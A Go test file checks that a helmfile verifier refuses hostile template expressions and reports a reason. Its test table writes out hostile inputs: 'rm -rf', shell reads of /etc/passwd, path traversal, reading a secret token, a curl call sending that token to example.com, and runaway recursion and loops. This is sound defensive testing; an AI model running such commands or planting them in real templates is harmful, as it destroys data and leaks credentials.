package bootstrap

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fleetwright/fleetwright/internal/repository"
)

// TestHelmfileRefusals reads helmfiles that would harm who runs them: nothing
// happens but a clear reason.
func TestHelmfileRefusals(t *testing.T) {
	t.Setenv("SECRET_TOKEN", "hunter2")
	outside := filepath.Join(t.TempDir(), "witness")
	for _, test := range []struct{ name, version, values, reason string }{
		{"rm", `'{{ exec "rm" (list "-rf" "WITNESS") }}'`, "", `exec "rm", which is not run`},
		{"shell", `'{{ exec "bash" (list "-c" "touch WITNESS; cat /etc/passwd") }}'`, "", "which is not run"},
		{"redirection", `'{{ exec "bash" (list "-c" "cat values.yaml > WITNESS") }}'`, "", "which is not run"},
		{"cat", `'{{ exec "cat" (list "/etc/passwd") }}'`, "", `"/etc/passwd", which is not in the repository`},
		{"yq", `'{{ exec "yq" (list "load(\"/etc/passwd\")") }}'`, "", "which is not run"},
		{"passwd", `'{{ readFile "/etc/passwd" }}'`, "", `"/etc/passwd", which is not in the repository`},
		{"up", `'{{ readFile "../../../../etc/passwd" }}'`, "", "outside of the repository"},
		{"folder", `'{{ readDir "/etc" }}'`, "", "not in the repository"},
		{"environment", `'{{ env "SECRET_TOKEN" }}'`, "", `env "SECRET_TOKEN"`},
		{"exfiltration", `'{{ exec "curl" (list (printf "https://example.com/%s" (env "SECRET_TOKEN"))) }}'`, "", "which is not run"},
		{"expansion", `'{{ expandenv "$SECRET_TOKEN" }}'`, "", "SECRET_TOKEN"},
		{"recursion", `'{{ define "a" }}{{ template "a" }}{{ end }}{{ template "a" }}'`, "", "calls itself"},
		{"include", `'{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}'`, "", "include each other"},
		{"loop", `'{{ range until 1073741824 }}x{{ end }}'`, "", "larger than 8 MB"},
		{"output", `'{{ range 900000 }}aaaaaaaaaaaaaaaa{{ end }}'`, "", "larger than 8 MB"},
		{"values", "1.0.0", `{{ repeat 1073741824 "a" }}`, "larger than 8 MB"},
		{"network", `'{{ getHostByName "example.com" }}'`, "", "calls getHostByName, which is not run"},
	} {
		t.Run(test.name, func(t *testing.T) {
			helmfile := "releases:\n  - name: a\n    namespace: n\n    chart: x/a\n    values: [values.yaml.gotmpl]\n    version: " +
				strings.ReplaceAll(test.version, "WITNESS", outside) + "\n"
			repo, err := repository.FromFiles(func(yield func(string, []byte) bool) {
				_ = yield("helmfile.yaml", []byte(helmfile)) && yield("values.yaml.gotmpl", []byte(test.values)) &&
					yield("hr.yaml", []byte("apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: a, namespace: n}\n"+
						"spec: {chart: {spec: {chart: a, version: 1.0.0}}}\n"))
			}, repository.Options{})
			if err != nil {
				t.Fatal(err)
			}
			report, err := Verify(t.Context(), repo, nil)
			if err != nil {
				t.Fatal(err)
			}
			var text bytes.Buffer
			if err := report.WriteText(&text, TextOptions{}); err != nil {
				t.Fatal(err)
			}
			if out := text.String(); report.Summary.Unresolved != 1 || !strings.Contains(out, test.reason) ||
				strings.Contains(out, "hunter2") || strings.Contains(out, "root:") {
				t.Errorf("want unresolved, %q; got\n%s", test.reason, out)
			}
			if _, err := os.Stat(outside); err == nil {
				t.Error("something was run")
			}
		})
	}
}
